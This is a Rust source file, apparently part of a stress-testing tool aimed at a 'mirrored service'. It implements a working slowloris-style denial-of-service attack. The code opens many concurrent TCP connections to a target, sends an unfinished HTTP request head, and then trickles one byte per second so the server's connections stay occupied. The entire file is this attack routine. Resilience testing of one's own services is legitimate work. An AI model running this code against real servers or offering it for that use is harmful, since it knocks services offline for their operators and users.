//! Clients of a mirrored service, on plain sockets.

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::plan::Plan;

/// Between two bytes of a head that never ends.
const DRIP: Duration = Duration::from_secs(1);

/// Connections that are made at the same time.
const AT_ONCE: usize = 50;

/// See [`super::Attack::SlowClients`].
pub(super) async fn slow(plan: &Arc<Plan>) {
    let gate = Arc::new(tokio::sync::Semaphore::new(AT_ONCE));
    let mut all = JoinSet::new();
    for _ in 0..plan.connections {
        let (plan, gate) = (Arc::clone(plan), Arc::clone(&gate));
        all.spawn(async move {
            let slot = gate.acquire().await;
            let connected = TcpStream::connect(plan.target.address).await;
            drop(slot);
            let Ok(mut stream) = connected.inspect_err(|error| plan.tally.ended(&error.to_string())) else { return };
            plan.tally.connected.fetch_add(1, Ordering::Relaxed);
            let mut head: &[u8] = b"GET / HTTP/1.1\r\nHost: web\r\nX: ";
            while !plan.is_over() {
                if let Err(error) = stream.write_all(head).await {
                    plan.tally.ended(&error.to_string());
                    return;
                }
                plan.tally.did(head.len());
                head = b"x";
                tokio::select! {
                    () = sleep(DRIP) => {}
                    () = plan.over() => {}
                }
            }
        });
    }
    all.join_all().await;
}
